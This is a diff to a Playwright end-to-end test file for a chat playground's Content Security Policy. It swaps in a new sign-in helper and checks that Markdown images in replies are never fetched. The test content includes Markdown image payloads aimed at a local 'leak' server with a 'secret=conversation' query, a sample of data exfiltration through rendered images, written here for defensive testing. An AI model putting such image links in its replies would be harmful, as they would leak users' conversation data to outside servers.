@@ -2,12 +2,14 @@ import http from "node:http";
 import type { AddressInfo } from "node:net";
 import type { Page } from "@playwright/test";
 import { e2eEnv } from "../env";
-import { BASE_URL, createAccount, expect, SAVED_SETTINGS, test } from "../fixtures";
-import { messageBox, replies, replyText, send, signInTo, waitForReplyDone } from "./playground-helpers";
+import { BASE_URL, createAccount, expect, SAVED_SETTINGS, signIn, test } from "../fixtures";
+import { messageBox, replies, replyText, send, waitForReplyDone } from "./playground-helpers";
 
 // In Chromium, with the production server's CSP on: every page works without a single CSP
 // violation; a reply's Markdown image is a link and is never fetched (and an <img> that got into
 // the page anyway is blocked by img-src); the cap on saved conversations is said in the UI.
+
+test.use({ accountOptions: { credits: 20 } });
 
 const ORIGIN = { Origin: BASE_URL };
 const LEAK_PORT = Number(e2eEnv().APP_PORT) + 77;
@@ -55,7 +57,7 @@ test("no CSP violation on the pages and in the playground, signed out and in", a
     await page.waitForLoadState("networkidle");
   }
   const account = await createAccount({ credits: 20 });
-  await signInTo(page, account);
+  await signIn(page, account, "/playground");
 
   await send(page, "Show me a TypeScript example with a table");
   await waitForReplyDone(replies(page).first());
@@ -87,7 +89,7 @@ test("a reply's Markdown image is shown as a link and never fetched; img-src blo
   try {
     const violations = await watchCsp(page);
     const account = await createAccount();
-    await signInTo(page, account);
+    await signIn(page, account, "/playground");
     const content = [
       `Here is your summary. ![x](${leak.url}/leak?secret=conversation)`,
       `And linked: [![inner](${leak.url}/leak?inner)](https://example.com/docs)`,
@@ -148,8 +150,8 @@ test("a reply's Markdown image is shown as a link and never fetched; img-src blo
 
 test("at the cap of saved conversations, the playground says to delete old ones and keeps the chat", async ({
   page,
+  account,
 }) => {
-  const account = await createAccount({ credits: 20 });
   const { db, ensureMigrated } = await import("@/lib/db");
   await ensureMigrated();
   await db().conversation.createMany({
@@ -160,7 +162,7 @@ test("at the cap of saved conversations, the playground says to delete old ones 
       settings: "{}",
     })),
   });
-  await signInTo(page, account);
+  await signIn(page, account, "/playground");
 
   await send(page, "Plan a trip to Porto");
   await waitForReplyDone(replies(page).first());
